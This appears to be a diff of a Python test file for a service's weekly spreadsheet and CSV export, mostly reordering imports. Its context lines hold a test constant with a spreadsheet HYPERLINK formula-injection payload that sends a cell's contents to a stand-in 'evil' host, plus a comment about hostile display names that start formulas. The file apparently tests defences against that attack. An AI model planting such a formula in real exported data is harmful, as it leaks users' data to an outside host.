@@ -7,14 +7,14 @@ import io
 import pytest
 import sqlalchemy as sa
 from openpyxl import Workbook, load_workbook
+from support import staff_browser
 
 from service.db import utcnow
 from service.models import User
-from service.states import CaseState
 from service.spreadsheets import FORMULA_STARTS, append_row
+from service.states import CaseState
 from service.weekly import Week, build_weekly_report
 from service.weekly_output import csv_text, workbook
-from support import staff_browser
 
 HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
 # display names as hostile people would set them: each starts a formula in Excel, LibreOffice or WPS
